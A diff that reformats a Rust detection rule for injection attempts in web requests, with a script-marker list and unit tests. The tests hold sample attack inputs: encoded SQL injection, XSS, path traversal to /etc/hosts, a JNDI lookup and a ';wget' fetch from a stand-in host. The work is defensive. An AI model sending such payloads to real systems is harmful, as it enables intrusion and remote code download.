@@ -15,7 +15,8 @@ pub(super) const RULE: Definition = Definition {
     info: &Info {
         id: RuleId::builtin("injection_attempt"),
         name: "Injection attempt",
-        description: "A request whose target, decoded, carries SQL, script, shell commands or a path out of the web root.",
+        description: "A request whose target, decoded, carries SQL, script, shell commands or a \
+            path out of the web root.",
         severity: Severity::High,
         controls: &[ControlId::known("3.14.6"), ControlId::known("3.13.1")],
         attack: &["T1190", "T1059"],
@@ -26,7 +27,11 @@ pub(super) const RULE: Definition = Definition {
     fixtures: include_str!("fixtures/injection_attempt.ndjson"),
     build: |value, _| {
         let _: Params = params(value)?;
-        Ok(Built { rule: Box::new(InjectionAttempt), cooldown: Span::hours(1), memory: Span::ZERO })
+        Ok(Built {
+            rule: Box::new(InjectionAttempt),
+            cooldown: Span::hours(1),
+            memory: Span::ZERO,
+        })
     },
 };
 
@@ -41,7 +46,8 @@ const LOOKED_AT: usize = 8192;
 /// Attackers encode what they encoded.
 const LAYERS: usize = 3;
 
-/// What gives each kind away, in a target that is decoded, in small letters, its blanks single and SQL's comments gone.
+/// What gives each kind away, in a target that is decoded, in small letters, its blanks single and
+/// SQL's comments gone.
 const KINDS: [(&str, &[&str]); 4] = [
     (
         "SQL",
@@ -70,7 +76,15 @@ const KINDS: [(&str, &[&str]); 4] = [
     ),
     (
         "script",
-        &["<script", "javascript:alert", "onerror=", "onload=alert", "<svg/on", "<img src=x", "document.cookie"],
+        &[
+            "<script",
+            "javascript:alert",
+            "onerror=",
+            "onload=alert",
+            "<svg/on",
+            "<img src=x",
+            "document.cookie",
+        ],
     ),
     (
         "path out of the web root",
@@ -129,7 +143,11 @@ fn decoded(text: &[u8]) -> Vec<u8> {
             (b'%', Some(high), Some(low)) => (high << 4 | low, 3),
             (b'+', ..) => (b' ', 1),
             // Web servers write bytes that would break their log so.
-            (b'\\', ..) if text.get(at + 1).is_some_and(|x| x.eq_ignore_ascii_case(&b'x')) => {
+            (b'\\', ..)
+                if text
+                    .get(at + 1)
+                    .is_some_and(|x| x.eq_ignore_ascii_case(&b'x')) =>
+            {
                 match (hex(text.get(at + 2)), hex(text.get(at + 3))) {
                     (Some(high), Some(low)) => (high << 4 | low, 4),
                     _ => (c, 1),
@@ -137,22 +155,31 @@ fn decoded(text: &[u8]) -> Vec<u8> {
             }
             _ => (c, 1),
         };
+
         out.push(byte);
         at += taken;
     }
+
     out
 }
 
 /// In small letters, any run of blanks as one, and `/**/`, which SQL takes for one, as one.
 fn plain(text: &[u8]) -> String {
-    let text = String::from_utf8_lossy(text).to_ascii_lowercase().replace("/**/", " ");
+    let text = String::from_utf8_lossy(text)
+        .to_ascii_lowercase()
+        .replace("/**/", " ");
     let mut out = String::with_capacity(text.len());
     for c in text.chars() {
-        let c = if c.is_ascii_whitespace() || c == '\0' { ' ' } else { c };
+        let c = if c.is_ascii_whitespace() || c == '\0' {
+            ' '
+        } else {
+            c
+        };
         if c != ' ' || !out.ends_with(' ') {
             out.push(c);
         }
     }
+
     out
 }
 
@@ -161,7 +188,10 @@ pub(super) fn kind_of(target: &str) -> Option<&'static str> {
     let mut layer = target.as_bytes()[..target.len().min(LOOKED_AT)].to_vec();
     for _ in 0..=LAYERS {
         let text = plain(&layer);
-        if let Some((kind, _)) = KINDS.iter().find(|(_, marks)| marks.iter().any(|mark| text.contains(mark))) {
+        if let Some((kind, _)) = KINDS
+            .iter()
+            .find(|(_, marks)| marks.iter().any(|mark| text.contains(mark)))
+        {
             return Some(kind);
         }
         let next = decoded(&layer);
@@ -170,18 +200,24 @@ pub(super) fn kind_of(target: &str) -> Option<&'static str> {
         }
         layer = next;
     }
+
     None
 }
 
-/// Whether a request carries code. Most targets are letters, digits and slashes, which carry nothing.
+/// Whether a request carries code. Most targets are letters, digits and slashes, which carry
+/// nothing.
 fn carries_code(event: &SecurityEvent<'_>) -> bool {
-    let Some(target) = event.resource_id.as_deref() else { return false };
-    let ordinary = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'-' | b'_' | b'?' | b'=' | b'&');
+    let Some(target) = event.resource_id.as_deref() else {
+        return false;
+    };
+    let ordinary =
+        |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'-' | b'_' | b'?' | b'=' | b'&');
     let bytes = target.as_bytes();
     let dots = bytes.windows(2).any(|pair| pair == b"..");
     if bytes.iter().all(|c| ordinary(c) || *c == b'.') && !dots && !target.contains("win.ini") {
         return false;
     }
+
     kind_of(target).is_some()
 }
 
@@ -191,13 +227,20 @@ impl Rule for InjectionAttempt {
     }
 
     fn observe(&mut self, event: &SecurityEvent<'_>, cx: &mut Context<'_>) {
-        let (Some(ip), Some(target)) = (event.ip_address, event.resource_id.as_deref()) else { return };
+        let (Some(ip), Some(target)) = (event.ip_address, event.resource_id.as_deref()) else {
+            return;
+        };
         let Some(kind) = kind_of(target) else { return };
         cx.fire(Key::ip(event.source, ip), event, || {
             let answered = event.details.number("status").unwrap_or(0);
-            let title = format!("Injection attempt: {kind} in a request from {ip}, answered with {answered}");
+            let title = format!(
+                "Injection attempt: {kind} in a request from {ip}, answered with \
+                {answered}"
+            );
+
             let description = format!(
-                "A request from {ip} carries a {kind}. {} Block the address if it is not one of yours.",
+                "A request from {ip} carries a {kind}. {} Block the address if it is not one of \
+                    yours.",
                 if answered < 300 {
                     "The server answered that all is well: find out what it did."
                 } else {
@@ -223,7 +266,10 @@ mod tests {
             ("/a?id=1%2527%2520or%2520%25271%2527=%25271", Some("SQL")),
             ("/a?q=%3Cscript%3Ealert(1)", Some("script")),
             ("/a/..%2f..%2fetc/hosts", Some("path out of the web root")),
-            ("/a?f=\\x2e\\x2e/\\x2e\\x2e/x", Some("path out of the web root")),
+            (
+                "/a?f=\\x2e\\x2e/\\x2e\\x2e/x",
+                Some("path out of the web root"),
+            ),
             ("/?x=${jndi:ldap://e/a}", Some("shell command")),
             ("/cgi?;wget+http://e/x", Some("shell command")),
             ("/select/union?order=by", None),
